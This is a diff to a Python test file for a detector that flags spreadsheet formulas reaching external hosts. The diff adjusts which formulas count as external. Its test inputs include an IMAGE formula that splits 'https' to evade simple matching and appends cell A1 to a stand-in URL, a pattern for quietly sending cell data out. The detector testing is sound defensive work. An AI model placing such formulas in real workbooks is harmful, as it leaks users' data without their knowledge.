@@ -157,7 +157,10 @@ def test_an_added_formula_reaching_outside_is_caught(tmp_path, example, formula)
 def test_an_internal_hyperlink_is_not_external():
     assert external_reach('HYPERLINK("#Score!B12","score")') is None
     assert external_reach('IF(zone="","",zone)') is None
-    assert external_reach('"see https://example.invalid"&A1') is not None
+    # read from the tokens: text that only mentions a URL reaches nothing; a call does
+    assert external_reach('"see https://example.invalid"&A1') is None
+    assert external_reach('HYPERLINK("https://example.invalid","x")') is not None
+    assert external_reach('IMAGE("ht"&"tps://example.invalid/"&A1)') is not None
 
 
 def test_unknown_method_version_is_refused(tmp_path, example):
